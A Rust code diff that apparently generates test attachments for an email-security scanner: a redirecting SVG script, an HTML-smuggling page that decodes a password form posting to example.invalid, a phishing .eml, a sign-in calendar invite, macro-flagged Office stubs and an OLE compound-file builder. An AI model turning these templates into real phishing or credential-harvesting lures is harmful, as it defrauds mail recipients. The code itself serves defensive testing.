@@ -32,7 +32,11 @@ pub fn named(what: &str, random: &str, code: &str) -> File {
         "iso" => file("scan.iso", "application/octet-stream", iso()),
         "vhd" => file("documents.vhd", "application/octet-stream", [b"conectix".as_slice(), &[0; 504]].concat()),
         "onenote" => file("documents.one", "application/onenote", onenote()),
-        "svg" => file("fax.svg", "image/svg+xml", format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='{link}'</script></svg>").into_bytes()),
+        "svg" => file(
+            "fax.svg",
+            "image/svg+xml",
+            format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='{link}'</script></svg>").into_bytes(),
+        ),
         "smuggle" => file("message.html", "text/html", smuggle(code).into_bytes()),
         "qr" => file("code.png", "image/png", qr(&link)),
         "eml-phish" => file("remittance.eml", "message/rfc822", nested(&link).into_bytes()),
@@ -43,12 +47,16 @@ pub fn named(what: &str, random: &str, code: &str) -> File {
 const LNK: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
 
 fn ics(place: &str) -> String {
-    format!("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nLOCATION:{place}\r\nDESCRIPTION:Sign in: {place}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
+    format!(
+        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nLOCATION:{place}\r\nDESCRIPTION:Sign in: {place}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
 }
 
 fn smuggle(code: &str) -> String {
     let inner = base64(format!("<form action=https://example.invalid/{code}><input type=password></form>").as_bytes());
-    format!("<html><body><script>var d=atob('{inner}');document.write(d);var b=new Blob([d]);URL.createObjectURL(b);</script></body></html>")
+    format!(
+        "<html><body><script>var d=atob('{inner}');document.write(d);var b=new Blob([d]);URL.createObjectURL(b);</script></body></html>"
+    )
 }
 
 fn nested(link: &str) -> String {
@@ -62,7 +70,9 @@ fn nested(link: &str) -> String {
 /// A PDF of one page, with a link if wanted.
 #[must_use]
 pub fn pdf(link: Option<&str>) -> Vec<u8> {
-    let annotation = link.map_or_else(String::new, |link| format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI ({link}) >> >>]"));
+    let annotation = link.map_or_else(String::new, |link| {
+        format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI ({link}) >> >>]")
+    });
     format!(
         "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
          3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] {annotation} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
@@ -89,8 +99,11 @@ fn onenote() -> Vec<u8> {
 }
 
 fn office(macros: bool) -> Vec<u8> {
-    let mut entries: Vec<(&str, &[u8], bool)> =
-        vec![("[Content_Types].xml", b"<Types/>", false), ("word/document.xml", b"<w:document/>", false), ("word/_rels/document.xml.rels", b"<Relationships/>", false)];
+    let mut entries: Vec<(&str, &[u8], bool)> = vec![
+        ("[Content_Types].xml", b"<Types/>", false),
+        ("word/document.xml", b"<w:document/>", false),
+        ("word/_rels/document.xml.rels", b"<Relationships/>", false),
+    ];
     if macros {
         entries.push(("word/vbaProject.bin", b"vba", false));
     }
@@ -120,7 +133,8 @@ pub fn zip(entries: &[(&str, &[u8], bool)]) -> Vec<u8> {
         directory.extend_from_slice(&offset.to_le_bytes());
         directory.extend_from_slice(name.as_bytes());
     }
-    let (at, size, count) = (u32::try_from(out.len()).unwrap_or(0), u32::try_from(directory.len()).unwrap_or(0), u16::try_from(entries.len()).unwrap_or(0));
+    let (at, size, count) =
+        (u32::try_from(out.len()).unwrap_or(0), u32::try_from(directory.len()).unwrap_or(0), u16::try_from(entries.len()).unwrap_or(0));
     out.extend_from_slice(&directory);
     out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
     out.extend_from_slice(&count.to_le_bytes());
@@ -192,4 +206,94 @@ pub fn qr(text: &str) -> Vec<u8> {
         return Vec::new();
     }
     out.into_inner()
+}
+
+/// A compound file with streams, `storage/stream` for those inside a storage. Streams are padded with spaces to a full 4,096 bytes, so that
+/// all lie in ordinary sectors.
+#[must_use]
+pub fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
+    const LAST: u32 = 0xffff_fffe;
+    const NONE: u32 = 0xffff_ffff;
+    let number = |at: usize| u32::try_from(at).unwrap_or(0);
+    // Entries: name, kind, first sector, size, child, right neighbour.
+    let mut entries: Vec<(String, u8, u32, u32, u32, u32)> = vec![("Root Entry".to_owned(), 5, LAST, 0, NONE, NONE)];
+    let (mut content, mut chains): (Vec<u8>, Vec<(usize, usize)>) = (Vec::new(), Vec::new());
+    for (path, bytes) in streams {
+        let (storage, name) = path.rsplit_once('/').map_or((None, *path), |(storage, name)| (Some(storage), name));
+        let parent = storage.map_or(0, |storage| {
+            entries.iter().position(|entry| entry.0 == storage).unwrap_or_else(|| {
+                entries.push((storage.to_owned(), 1, 0, 0, NONE, NONE));
+                let at = entries.len() - 1;
+                link(&mut entries, 0, number(at));
+                at
+            })
+        });
+        let mut bytes = bytes.to_vec();
+        let wide = name.ends_with("001F");
+        while bytes.len() < 4_096 || bytes.len() % 512 != 0 {
+            bytes.push(b' ');
+            if wide {
+                bytes.push(0);
+            }
+        }
+        let first = content.len() / 512;
+        content.extend_from_slice(&bytes);
+        chains.push((first, bytes.len() / 512));
+        entries.push((name.to_owned(), 2, number(first), number(bytes.len()), NONE, NONE));
+        let at = entries.len() - 1;
+        link(&mut entries, parent, number(at));
+    }
+    let directory_sectors = entries.len().div_ceil(4);
+    let sectors = directory_sectors + content.len() / 512;
+    let fat_sectors = (sectors + 4).div_ceil(127);
+    let start = fat_sectors + directory_sectors;
+    let mut fat: Vec<u32> = vec![0xffff_fffd; fat_sectors];
+    fat.extend((0..directory_sectors).map(|at| if at + 1 == directory_sectors { LAST } else { number(fat_sectors + at + 1) }));
+    for (first, count) in chains {
+        fat.extend((0..count).map(|at| if at + 1 == count { LAST } else { number(start + first + at + 1) }));
+    }
+    let mut out = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
+    out.extend_from_slice(&[0; 16]);
+    for field in [0x3e_u16, 3, 0xfffe, 9, 6] {
+        out.extend_from_slice(&field.to_le_bytes());
+    }
+    out.extend_from_slice(&[0; 6]);
+    for field in [0, number(fat_sectors), number(fat_sectors), 0, 4_096, LAST, 0, LAST, 0] {
+        out.extend_from_slice(&field.to_le_bytes());
+    }
+    for at in 0..fat_sectors {
+        out.extend_from_slice(&number(at).to_le_bytes());
+    }
+    out.resize(512, 0xff);
+    for sector in &fat {
+        out.extend_from_slice(&sector.to_le_bytes());
+    }
+    out.resize(512 + fat_sectors * 512, 0xff);
+    for (name, kind, first, size, child, right) in &entries {
+        let mut entry = name.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+        let length = u16::try_from(entry.len() + 2).unwrap_or(2);
+        entry.resize(64, 0);
+        entry.extend_from_slice(&length.to_le_bytes());
+        entry.extend_from_slice(&[*kind, 1]);
+        for field in [NONE, *right, *child] {
+            entry.extend_from_slice(&field.to_le_bytes());
+        }
+        entry.resize(116, 0);
+        let first = if *kind == 2 { first + number(start) } else { *first };
+        entry.extend_from_slice(&first.to_le_bytes());
+        entry.extend_from_slice(&size.to_le_bytes());
+        entry.resize(128, 0);
+        out.extend_from_slice(&entry);
+    }
+    out.resize(512 + start * 512, 0);
+    out.extend_from_slice(&content);
+    out
+}
+
+/// Puts an entry first among the children of another.
+fn link(entries: &mut [(String, u8, u32, u32, u32, u32)], parent: usize, child: u32) {
+    let Some(old) = entries.get_mut(parent).map(|entry| std::mem::replace(&mut entry.4, child)) else { return };
+    if let Some(entry) = usize::try_from(child).ok().and_then(|at| entries.get_mut(at)) {
+        entry.5 = old;
+    }
 }
